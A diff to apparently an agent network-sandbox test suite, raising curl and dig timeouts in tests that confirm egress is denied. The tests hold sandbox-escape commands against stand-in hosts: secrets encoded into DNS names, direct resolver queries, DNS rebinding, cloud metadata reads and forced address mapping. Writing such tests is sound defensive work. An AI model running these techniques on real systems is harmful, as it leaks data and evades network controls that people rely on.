@@ -30,7 +30,7 @@ extension EndToEnd {
 
         @Test("B01: nor when a program connects to it")
         func deniedConnection() throws {
-            let script = "curl -sk -m5 https://czNjcjN0.denied.test/"
+            let script = "curl -sk -m30 https://czNjcjN0.denied.test/"
             let attempt = try place.attempt(script, in: internet)
             #expect(attempt.queries.isEmpty, "\(attempt)")
             #expect(attempt.denial?.reason == "no-rule")
@@ -48,8 +48,8 @@ extension EndToEnd {
             let attempt = try place.attempt(
                 """
                 for i in $(seq 100); do echo "s3cr3t-$i.allowed.test"; done > names
-                dig +short -f names | grep -c .; curl -sS -m5 http://refused.allowed.test/elsewhere
-                curl -sS -m5 http://used.allowed.test/v1/b02
+                dig +short -f names | grep -c .; curl -sS -m30 http://refused.allowed.test/elsewhere
+                curl -sS -m30 http://used.allowed.test/v1/b02
                 """,
                 profile: policy,
                 in: internet
@@ -64,10 +64,12 @@ extension EndToEnd {
             arguments: ["+notcp", "+tcp"]
         )
         func directResolver(transport: String) throws {
-            let script = "dig \(transport) +short +time=2 +tries=1 @8.8.8.8 b03.denied.test"
-            let control = try place.unconfined(script, in: internet)
+            func script(_ seconds: Int) -> String {
+                "dig \(transport) +short +time=\(seconds) +tries=1 @8.8.8.8 b03.denied.test"
+            }
+            let control = try place.unconfined(script(1), in: internet)
             #expect(control.sink.contains { $0.hasSuffix("to 8.8.8.8 53") }, "\(control)")
-            let attempt = try place.attempt(script, in: internet)
+            let attempt = try place.attempt(script(30), in: internet)
             #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
             #expect(attempt.output.hasPrefix("198.18."), "\(attempt)")
         }
@@ -79,7 +81,7 @@ extension EndToEnd {
             ]
         )
         func overHTTPS(url: String) throws {
-            let attempt = try place.attempt("curl -sk -m5 '\(url)'", in: internet)
+            let attempt = try place.attempt("curl -sk -m30 '\(url)'", in: internet)
             #expect(attempt.denial?.reason == "no-rule", "\(attempt)")
             #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
         }
@@ -102,13 +104,13 @@ extension EndToEnd {
         func rebinding() throws {
             let policy = rules("to: \"http://rebind-b08.test\"")
             let first = try place.attempt(
-                "curl -sS -m5 http://rebind-b08.test/b08",
+                "curl -sS -m30 http://rebind-b08.test/b08",
                 profile: policy,
                 in: internet
             )
             #expect(first.output.contains("reached"), "\(first)")
             let second = try place.attempt(
-                "curl -sS -m5 http://rebind-b08.test/b08",
+                "curl -sS -m30 http://rebind-b08.test/b08",
                 profile: policy,
                 in: internet
             )
@@ -121,7 +123,7 @@ extension EndToEnd {
         @Test("B08 B13: within one agent as well, whatever it keeps open")
         func rebindingWithinAgent() throws {
             let attempt = try place.attempt(
-                "for i in 1 2 3; do curl -sS -m5 http://rebind-within.test/; done",
+                "for i in 1 2 3; do curl -sS -m30 http://rebind-within.test/; done",
                 profile: rules("to: \"http://rebind-within.test\""),
                 in: internet
             )
@@ -132,21 +134,21 @@ extension EndToEnd {
         @Test("B09: of a mixed answer only the public address is dialled")
         func mixedAnswer() throws {
             let attempt = try place.attempt(
-                "curl -sS -m5 http://mixed.test/b09; curl -sS -m5 http://bad-only.test/",
+                "curl -sS -m30 http://mixed.test/b09; curl -sS -m30 http://bad-only.test/",
                 profile: rules("to: \"http://mixed.test\"", "to: \"http://bad-only.test\""),
                 in: internet
             )
             #expect(attempt.output.contains("reached mixed.test /b09"), "\(attempt)")
             #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
             #expect(attempt.sink.isEmpty, "\(attempt)")
-            let control = try place.unconfined("curl -sS -m1 http://bad-only.test/", in: internet)
+            let control = try place.unconfined("curl -sS -m30 http://bad-only.test/", in: internet)
             #expect(!control.sink.isEmpty, "\(control)")
         }
 
         @Test("B10: policy is by the name asked for; the address behind an alias is checked all the same")
         func alias() throws {
             let attempt = try place.attempt(
-                "curl -sS -m5 http://cname-public.test/b10; curl -sS -m5 http://cname-private.test/",
+                "curl -sS -m30 http://cname-public.test/b10; curl -sS -m30 http://cname-private.test/",
                 profile: rules("to: \"http://cname-public.test\"", "to: \"http://cname-private.test\""),
                 in: internet
             )
@@ -163,19 +165,19 @@ extension EndToEnd {
         )
         func metadata(name: String) throws {
             let attempt = try place.attempt(
-                "curl -sS -m5 http://\(name)/latest/",
+                "curl -sS -m30 http://\(name)/latest/",
                 profile: rules("to: \"http://\(name)\", private: true"),
                 in: internet
             )
             #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
             #expect(attempt.sink.isEmpty, "\(attempt)")
-            let control = try place.unconfined("curl -sS -m1 http://\(name)/latest/", in: internet)
+            let control = try place.unconfined("curl -sS -m30 http://\(name)/latest/", in: internet)
             #expect(!control.sink.isEmpty, "\(control)")
         }
 
         @Test("B12: an address of the machine itself is refused, unless the rule says private: true")
         func ownAddress() throws {
-            let script = "timeout 5 curl -sS -m2 http://own.test/"
+            let script = "timeout 60 curl -sS -m30 http://own.test/"
             let attempt = try place.attempt(script, profile: rules("to: \"http://own.test\""), in: internet)
             #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
             #expect(attempt.sink.isEmpty, "\(attempt)")
@@ -192,7 +194,7 @@ extension EndToEnd {
             arguments: ["https", "http"]
         )
         func unknownAddress(scheme: String) throws {
-            let attempt = try place.attempt("curl -sk -m5 \(scheme)://198.18.200.200/v1/x", in: internet)
+            let attempt = try place.attempt("curl -sk -m30 \(scheme)://198.18.200.200/v1/x", in: internet)
             #expect(attempt.denied.count == 1, "\(attempt)")
             #expect(!attempt.output.contains("reached"))
             #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
@@ -231,7 +233,7 @@ extension EndToEnd {
         )
         func spelling(name: String) throws {
             let attempt = try place.attempt(
-                "curl -sS -m5 https://\(name)/v1/b17; curl -sS -m5 https://\(name)/b17; dig +short \(name)",
+                "curl -sS -m30 https://\(name)/v1/b17; curl -sS -m30 https://\(name)/b17; dig +short \(name)",
                 in: internet
             )
             #expect(attempt.output.contains("reached allowed.test /v1/b17"), "\(attempt)")
@@ -240,7 +242,7 @@ extension EndToEnd {
 
         @Test("B18: a name that the agent maps to an address of its own is not believed")
         func mappedByAgent() throws {
-            let script = "curl -sk -m5 --resolve allowed.test:443:93.184.216.66 https://allowed.test/v1/b18"
+            let script = "curl -sk -m30 --resolve allowed.test:443:93.184.216.66 https://allowed.test/v1/b18"
             let control = try place.unconfined(script, in: internet)
             #expect(control.sink.contains { $0.contains("bytes to 93.184.216.66 443") }, "\(control)")
             let attempt = try place.attempt(script, in: internet)
